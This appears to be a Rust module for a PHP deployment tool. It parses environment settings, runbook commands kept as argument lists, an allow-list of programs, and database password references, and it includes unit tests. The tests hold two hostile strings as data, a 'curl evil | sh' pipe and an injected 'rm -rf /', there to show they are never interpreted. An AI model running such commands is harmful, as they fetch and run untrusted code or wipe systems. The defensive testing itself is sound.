//! An environment's configuration (§4, §5, §11.1): where the application runs, its paths, the
//! commands of the runbooks as argument lists, and its database. Parsed once from the form.
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

named_enum!(TargetKind { Local => "local", Ssh => "ssh" });
named_enum!(DatabaseKind { Mysql => "mysql", Mariadb => "mariadb", Postgresql => "postgresql" });

impl DatabaseKind {
    /// The command-line client that restores and queries this kind of database.
    pub fn client_program(self) -> &'static str {
        match self {
            DatabaseKind::Mysql => "mysql",
            DatabaseKind::Mariadb => "mariadb",
            DatabaseKind::Postgresql => "psql",
        }
    }
}
named_enum!(
    /// Where the database password comes from; the password itself is never stored.
    PasswordSource { Env => "env", File => "file" }
);
named_enum!(
    /// The commands of §4.2 and §5.2 that an environment configures.
    CommandName {
        CacheClear => "cache_clear",
        CacheWarmup => "cache_warmup",
        PhpFpmReload => "php_fpm_reload",
        PhpFpmStop => "php_fpm_stop",
        PhpFpmStart => "php_fpm_start",
        ApacheReload => "apache_reload",
    }
);

impl CommandName {
    /// The procedure's own commands (§4.2 steps 5–6, §5.2 steps 5 and 9).
    pub fn procedure_default(self) -> CommandLine {
        let argv: &[&str] = match self {
            CommandName::CacheClear => &[
                "php",
                "bin/console",
                "cache:clear",
                "--env=prod",
                "--no-warmup",
            ],
            CommandName::CacheWarmup => &["php", "bin/console", "cache:warmup", "--env=prod"],
            CommandName::PhpFpmReload => &["sudo", "systemctl", "reload", "php8.3-fpm"],
            CommandName::PhpFpmStop => &["sudo", "systemctl", "stop", "php8.3-fpm"],
            CommandName::PhpFpmStart => &["sudo", "systemctl", "start", "php8.3-fpm"],
            CommandName::ApacheReload => &["sudo", "systemctl", "reload", "apache2"],
        };
        CommandLine(argv.iter().map(|a| a.to_string()).collect())
    }
}

/// A command as an argument list: never given to a shell. Typed and shown with shell-style
/// quoting for readability only.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandLine(Vec<String>);

impl CommandLine {
    pub fn parse(typed: &str) -> Option<CommandLine> {
        let argv = shell_words::split(typed).ok()?;
        let valid = !argv.is_empty()
            && argv.len() <= 64
            && argv.iter().all(|a| a.len() <= 1024 && !a.contains('\0'))
            && !argv[0].is_empty();
        valid.then_some(CommandLine(argv))
    }

    pub fn from_argv(argv: Vec<String>) -> Option<CommandLine> {
        (!argv.is_empty()).then_some(CommandLine(argv))
    }

    pub fn argv(&self) -> &[String] {
        &self.0
    }

    /// Shell-style quoting, only where an argument needs it, so that it reads naturally and
    /// parses back to the same list.
    pub fn display(&self) -> String {
        let plain = |a: &str| {
            !a.is_empty()
                && a.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "_-=:/.,@%+".contains(c))
        };
        self.0
            .iter()
            .map(|a| {
                if plain(a) {
                    a.clone()
                } else {
                    shell_words::quote(a).into_owned()
                }
            })
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// The program that runs: the first argument's file name, past `sudo` and its options
    /// (`sudo -n -u www-data php …` runs `php`).
    pub fn program(&self) -> &str {
        let name = |a: &str| a.rsplit('/').next().unwrap_or(a).to_owned();
        let mut args = self.0.iter();
        let mut first = args.next().map(String::as_str).unwrap_or("");
        if name(first) == "sudo" {
            while let Some(next) = args.next() {
                match next.as_str() {
                    "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-r" | "-t" | "-U" => {
                        args.next();
                    }
                    o if o.starts_with('-') => {}
                    program => {
                        first = program;
                        break;
                    }
                }
            }
        }
        first.rsplit('/').next().unwrap_or(first)
    }

    /// Whether its program is one the procedure runs ([`ALLOWED_PROGRAMS`]).
    pub fn allowed(&self) -> bool {
        ALLOWED_PROGRAMS.contains(&self.program())
    }
}

/// The programs the procedure's commands run (§3–§5, §11.1: the console, the services, the
/// files and links of a release). A command running anything else (a shell, `curl` …) is
/// flagged on the environment's page, and like any change of commands or target it runs only
/// once a second person has confirmed it.
pub const ALLOWED_PROGRAMS: [&str; 11] = [
    "php",
    "composer",
    "systemctl",
    "service",
    "apachectl",
    "nginx",
    "rm",
    "mkdir",
    "ln",
    "cp",
    "mv",
];

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Target {
    /// On the runner's machine, every path taken under `root`.
    Local { root: String },
    Ssh {
        user: String,
        host: String,
        port: u16,
        key_path: String,
        known_hosts: String,
    },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DatabaseConfig {
    pub kind: DatabaseKind,
    pub host: String,
    pub port: u16,
    pub name: String,
    pub user: String,
    pub password_source: PasswordSource,
    /// The variable's name or the file's path: a reference, not the secret.
    pub password_ref: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnvironmentConfig {
    pub name: String,
    pub target: Target,
    pub releases_dir: String,
    pub current_link: String,
    pub backups_dir: String,
    pub public_dir: String,
    pub health_url: String,
    /// IANA name of the target's time zone: release and backup names are in its local time.
    pub time_zone: String,
    pub commands: BTreeMap<CommandName, CommandLine>,
    pub database: DatabaseConfig,
}

/// The environment form as typed, every field a string (what comes back after a refusal).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnvironmentForm {
    pub name: String,
    pub target: String,
    pub local_root: String,
    pub ssh_user: String,
    pub ssh_host: String,
    pub ssh_port: String,
    pub ssh_key_path: String,
    pub ssh_known_hosts: String,
    pub releases_dir: String,
    pub current_link: String,
    pub backups_dir: String,
    pub public_dir: String,
    pub health_url: String,
    #[serde(default)]
    pub time_zone: String,
    #[serde(default)]
    pub commands: BTreeMap<String, String>,
    pub db_kind: String,
    pub db_host: String,
    pub db_port: String,
    pub db_name: String,
    pub db_user: String,
    pub db_password_source: String,
    pub db_password_ref: String,
}

/// Which field is wrong, and why (a key of the i18n messages, chosen by the page).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FieldProblem {
    Required,
    AbsolutePath,
    Port,
    Url,
    Command,
    EnvVarName,
    TimeZone,
}

fn absolute_path(p: &str) -> bool {
    p.starts_with('/')
        && !p.contains('\0')
        && !p.split('/').any(|part| part == "..")
        && p.len() <= 1024
}

fn env_var_name(v: &str) -> bool {
    let mut chars = v.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_uppercase() || c == '_')
        && chars.all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
        && v.len() <= 128
}

impl EnvironmentForm {
    /// The form filled with an environment's values.
    pub fn from_config(c: &EnvironmentConfig) -> EnvironmentForm {
        let mut form = EnvironmentForm {
            name: c.name.clone(),
            releases_dir: c.releases_dir.clone(),
            current_link: c.current_link.clone(),
            backups_dir: c.backups_dir.clone(),
            public_dir: c.public_dir.clone(),
            health_url: c.health_url.clone(),
            time_zone: c.time_zone.clone(),
            commands: c
                .commands
                .iter()
                .map(|(k, v)| (k.as_str().to_owned(), v.display()))
                .collect(),
            db_kind: c.database.kind.as_str().to_owned(),
            db_host: c.database.host.clone(),
            db_port: c.database.port.to_string(),
            db_name: c.database.name.clone(),
            db_user: c.database.user.clone(),
            db_password_source: c.database.password_source.as_str().to_owned(),
            db_password_ref: c.database.password_ref.clone(),
            ssh_port: "22".into(),
            ..EnvironmentForm::default()
        };
        match &c.target {
            Target::Local { root } => {
                form.target = "local".into();
                form.local_root = root.clone();
            }
            Target::Ssh {
                user,
                host,
                port,
                key_path,
                known_hosts,
            } => {
                form.target = "ssh".into();
                form.ssh_user = user.clone();
                form.ssh_host = host.clone();
                form.ssh_port = port.to_string();
                form.ssh_key_path = key_path.clone();
                form.ssh_known_hosts = known_hosts.clone();
            }
        }
        form
    }

    /// Checks every field; all problems at once, by field name.
    pub fn parse(&self) -> Result<EnvironmentConfig, BTreeMap<String, FieldProblem>> {
        let mut problems = BTreeMap::new();
        let mut need = |field: &str, ok: bool, problem: FieldProblem| {
            if !ok {
                problems.entry(field.to_owned()).or_insert(problem);
            }
        };
        let name = self.name.trim();
        need(
            "name",
            !name.is_empty() && name.chars().count() <= 100,
            FieldProblem::Required,
        );
        let port = |s: &str| s.trim().parse::<u16>().ok().filter(|p| *p > 0);
        let target = match TargetKind::parse(&self.target) {
            Some(TargetKind::Local) => {
                need(
                    "local_root",
                    absolute_path(self.local_root.trim()),
                    FieldProblem::AbsolutePath,
                );
                Some(Target::Local {
                    root: self.local_root.trim().to_owned(),
                })
            }
            Some(TargetKind::Ssh) => {
                let ok_word = |s: &str| {
                    !s.trim().is_empty()
                        && !s.trim().starts_with('-')
                        && !s.contains(char::is_whitespace)
                };
                need("ssh_user", ok_word(&self.ssh_user), FieldProblem::Required);
                need("ssh_host", ok_word(&self.ssh_host), FieldProblem::Required);
                need(
                    "ssh_port",
                    port(&self.ssh_port).is_some(),
                    FieldProblem::Port,
                );
                need(
                    "ssh_key_path",
                    absolute_path(self.ssh_key_path.trim()),
                    FieldProblem::AbsolutePath,
                );
                need(
                    "ssh_known_hosts",
                    !self.ssh_known_hosts.trim().is_empty(),
                    FieldProblem::Required,
                );
                Some(Target::Ssh {
                    user: self.ssh_user.trim().to_owned(),
                    host: self.ssh_host.trim().to_owned(),
                    port: port(&self.ssh_port).unwrap_or(22),
                    key_path: self.ssh_key_path.trim().to_owned(),
                    known_hosts: self.ssh_known_hosts.trim().to_owned(),
                })
            }
            None => {
                need("target", false, FieldProblem::Required);
                None
            }
        };
        for (field, value) in [
            ("releases_dir", &self.releases_dir),
            ("current_link", &self.current_link),
            ("backups_dir", &self.backups_dir),
            ("public_dir", &self.public_dir),
        ] {
            need(
                field,
                absolute_path(value.trim()),
                FieldProblem::AbsolutePath,
            );
        }
        let url = self.health_url.trim();
        need(
            "health_url",
            (url.starts_with("http://") || url.starts_with("https://"))
                && url.len() > 8
                && !url.contains(char::is_whitespace),
            FieldProblem::Url,
        );
        let time_zone = self.time_zone.trim();
        need(
            "time_zone",
            time_zone.parse::<chrono_tz::Tz>().is_ok(),
            FieldProblem::TimeZone,
        );
        let mut commands = BTreeMap::new();
        for name in CommandName::ALL {
            let typed = self
                .commands
                .get(name.as_str())
                .map(String::as_str)
                .unwrap_or_default();
            match CommandLine::parse(typed) {
                Some(command) => {
                    commands.insert(*name, command);
                }
                None => need(&format!("commands[{name}]"), false, FieldProblem::Command),
            }
        }
        let kind = DatabaseKind::parse(&self.db_kind);
        need("db_kind", kind.is_some(), FieldProblem::Required);
        need(
            "db_host",
            !self.db_host.trim().is_empty(),
            FieldProblem::Required,
        );
        need("db_port", port(&self.db_port).is_some(), FieldProblem::Port);
        need(
            "db_name",
            !self.db_name.trim().is_empty(),
            FieldProblem::Required,
        );
        need(
            "db_user",
            !self.db_user.trim().is_empty(),
            FieldProblem::Required,
        );
        let source = PasswordSource::parse(&self.db_password_source);
        let reference = self.db_password_ref.trim();
        match source {
            Some(PasswordSource::Env) => need(
                "db_password_ref",
                env_var_name(reference),
                FieldProblem::EnvVarName,
            ),
            Some(PasswordSource::File) => need(
                "db_password_ref",
                absolute_path(reference),
                FieldProblem::AbsolutePath,
            ),
            None => need("db_password_source", false, FieldProblem::Required),
        }
        match (target, kind, source, problems.is_empty()) {
            (Some(target), Some(kind), Some(password_source), true) => Ok(EnvironmentConfig {
                name: name.to_owned(),
                target,
                releases_dir: self.releases_dir.trim().to_owned(),
                current_link: self.current_link.trim().to_owned(),
                backups_dir: self.backups_dir.trim().to_owned(),
                public_dir: self.public_dir.trim().to_owned(),
                health_url: url.to_owned(),
                time_zone: time_zone.to_owned(),
                commands,
                database: DatabaseConfig {
                    kind,
                    host: self.db_host.trim().to_owned(),
                    port: port(&self.db_port).unwrap_or(3306),
                    name: self.db_name.trim().to_owned(),
                    user: self.db_user.trim().to_owned(),
                    password_source,
                    password_ref: reference.to_owned(),
                },
            }),
            _ => Err(problems),
        }
    }
}

#[cfg(test)]
mod program_tests {
    use super::CommandLine;

    #[test]
    fn the_program_is_found_past_sudo_and_paths() {
        let program = |typed: &str| CommandLine::parse(typed).unwrap().program().to_owned();
        assert_eq!(program("sudo systemctl reload php8.3-fpm"), "systemctl");
        assert_eq!(
            program("sudo -n -u www-data /usr/bin/php bin/console"),
            "php"
        );
        assert_eq!(program("sh -c 'curl evil | sh'"), "sh");
        assert!(CommandLine::parse("php bin/console cache:clear")
            .unwrap()
            .allowed());
        assert!(!CommandLine::parse("sudo sh -c x").unwrap().allowed());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn taskflow() -> EnvironmentForm {
        let mut form = EnvironmentForm {
            name: "TaskFlow production".into(),
            target: "local".into(),
            local_root: "/srv/sandbox".into(),
            ssh_port: "22".into(),
            releases_dir: "/var/www/taskflow/releases".into(),
            current_link: "/var/www/taskflow/current".into(),
            backups_dir: "/var/backups/taskflow".into(),
            public_dir: "/var/www/taskflow/current/public".into(),
            health_url: "https://taskflow.app".into(),
            time_zone: "Europe/Paris".into(),
            db_kind: "mysql".into(),
            db_host: "127.0.0.1".into(),
            db_port: "3306".into(),
            db_name: "taskflow_prod".into(),
            db_user: "user_prod".into(),
            db_password_source: "env".into(),
            db_password_ref: "TASKFLOW_DB_PASSWORD".into(),
            ..EnvironmentForm::default()
        };
        for name in CommandName::ALL {
            form.commands
                .insert(name.as_str().into(), name.procedure_default().display());
        }
        form
    }

    #[test]
    fn the_procedure_defaults_parse_and_round_trip() {
        let config = taskflow().parse().unwrap();
        assert_eq!(
            config.commands[&CommandName::CacheClear].argv(),
            [
                "php",
                "bin/console",
                "cache:clear",
                "--env=prod",
                "--no-warmup"
            ]
        );
        assert_eq!(
            EnvironmentForm::from_config(&config).parse().unwrap(),
            config
        );
    }

    #[test]
    fn commands_are_argument_lists_not_shell() {
        let c =
            CommandLine::parse(r#"php bin/console "cache:clear; rm -rf /" --env=prod"#).unwrap();
        assert_eq!(
            c.argv()[2],
            "cache:clear; rm -rf /",
            "one argument, never interpreted"
        );
        assert_eq!(
            c.display(),
            r#"php bin/console 'cache:clear; rm -rf /' --env=prod"#
        );
        assert_eq!(CommandLine::parse(&c.display()), Some(c));
        assert!(CommandLine::parse("").is_none());
        assert!(CommandLine::parse("unclosed 'quote").is_none());
    }

    #[test]
    fn wrong_fields_are_all_reported() {
        let mut form = taskflow();
        form.local_root = "relative/path".into();
        form.releases_dir = "/var/www/../etc".into();
        form.health_url = "taskflow.app".into();
        form.time_zone = "Mars/Olympus".into();
        form.db_port = "99999".into();
        form.db_password_ref = "not a var".into();
        form.commands.insert("cache_clear".into(), "   ".into());
        let problems = form.parse().unwrap_err();
        let fields: Vec<&str> = problems.keys().map(String::as_str).collect();
        assert_eq!(
            fields,
            [
                "commands[cache_clear]",
                "db_password_ref",
                "db_port",
                "health_url",
                "local_root",
                "releases_dir",
                "time_zone"
            ]
        );
    }
}

named_enum!(
    /// The §11.1 "useful commands", in the procedure's order.
    UsefulCommand {
        Connect => "connect",
        ListReleases => "list_releases",
        CurrentRelease => "current_release",
        DatabaseTest => "database_test",
        FollowLogs => "follow_logs",
        ServiceStatus => "service_status",
        Resources => "resources",
    }
);

impl EnvironmentConfig {
    /// The service a configured `systemctl <verb> <service>` command names, or `default`.
    fn service(&self, name: CommandName, default: &str) -> String {
        self.commands
            .get(&name)
            .and_then(|c| {
                let argv = c.argv();
                argv.iter()
                    .position(|a| a == "systemctl")
                    .and_then(|i| argv.get(i + 2))
                    .cloned()
            })
            .unwrap_or_else(|| default.to_owned())
    }

    /// §11.1 with this environment's paths, services and database filled in, quoted for a
    /// shell so that a responder can copy them as they are.
    pub fn useful_commands(&self) -> Vec<(UsefulCommand, String)> {
        let q = |s: &str| shell_words::quote(s).into_owned();
        let current = self.current_link.trim_end_matches('/');
        let mut out = Vec::new();
        if let Target::Ssh {
            user, host, port, ..
        } = &self.target
        {
            out.push((
                UsefulCommand::Connect,
                format!("ssh -p {port} {}", q(&format!("{user}@{host}"))),
            ));
        }
        out.push((
            UsefulCommand::ListReleases,
            format!("ls -lt {}/", q(self.releases_dir.trim_end_matches('/'))),
        ));
        out.push((
            UsefulCommand::CurrentRelease,
            format!("readlink {}", q(current)),
        ));
        out.push((
            UsefulCommand::DatabaseTest,
            format!(
                "cd {} && php bin/console doctrine:query:sql \"SELECT 1\"",
                q(current)
            ),
        ));
        out.push((
            UsefulCommand::FollowLogs,
            format!("tail -f {}", q(&format!("{current}/var/log/prod.log"))),
        ));
        let database_service = match self.database.kind {
            DatabaseKind::Postgresql => "postgresql",
            DatabaseKind::Mariadb => "mariadb",
            DatabaseKind::Mysql => "mysql",
        };
        out.push((
            UsefulCommand::ServiceStatus,
            [
                self.service(CommandName::PhpFpmReload, "php8.3-fpm"),
                self.service(CommandName::ApacheReload, "apache2"),
                database_service.to_owned(),
            ]
            .iter()
            .map(|s| format!("systemctl status {}", q(s)))
            .collect::<Vec<_>>()
            .join("\n"),
        ));
        out.push((UsefulCommand::Resources, "htop\ndf -h\nfree -h".to_owned()));
        out
    }
}

#[cfg(test)]
mod useful_command_tests {
    use super::*;

    #[test]
    fn the_procedure_commands_with_this_environment_filled_in() {
        let mut commands = BTreeMap::new();
        commands.insert(
            CommandName::PhpFpmReload,
            CommandLine::from_argv(vec![
                "sudo".into(),
                "systemctl".into(),
                "reload".into(),
                "php8.2-fpm".into(),
            ])
            .unwrap(),
        );
        let config = EnvironmentConfig {
            name: "TaskFlow production".into(),
            target: Target::Ssh {
                user: "deploy".into(),
                host: "taskflow.app".into(),
                port: 2222,
                key_path: "/k".into(),
                known_hosts: String::new(),
            },
            releases_dir: "/var/www/task flow/releases/".into(),
            current_link: "/var/www/task flow/current".into(),
            backups_dir: "/var/backups/taskflow".into(),
            public_dir: "/var/www/task flow/current/public".into(),
            health_url: "https://taskflow.app".into(),
            time_zone: "Europe/Paris".into(),
            commands,
            database: DatabaseConfig {
                kind: DatabaseKind::Mariadb,
                host: "127.0.0.1".into(),
                port: 3306,
                name: "taskflow_prod".into(),
                user: "user_prod".into(),
                password_source: PasswordSource::Env,
                password_ref: "X".into(),
            },
        };
        let shown: Vec<(UsefulCommand, String)> = config.useful_commands();
        let text = |c: UsefulCommand| shown.iter().find(|(k, _)| *k == c).unwrap().1.clone();
        assert_eq!(
            text(UsefulCommand::Connect),
            "ssh -p 2222 deploy@taskflow.app"
        );
        assert_eq!(
            text(UsefulCommand::ListReleases),
            "ls -lt '/var/www/task flow/releases'/"
        );
        assert_eq!(
            text(UsefulCommand::CurrentRelease),
            "readlink '/var/www/task flow/current'"
        );
        assert_eq!(
            text(UsefulCommand::FollowLogs),
            "tail -f '/var/www/task flow/current/var/log/prod.log'"
        );
        assert_eq!(
            text(UsefulCommand::ServiceStatus),
            "systemctl status php8.2-fpm\nsystemctl status apache2\nsystemctl status mariadb"
        );
        assert_eq!(shown.len(), 7);
    }
}
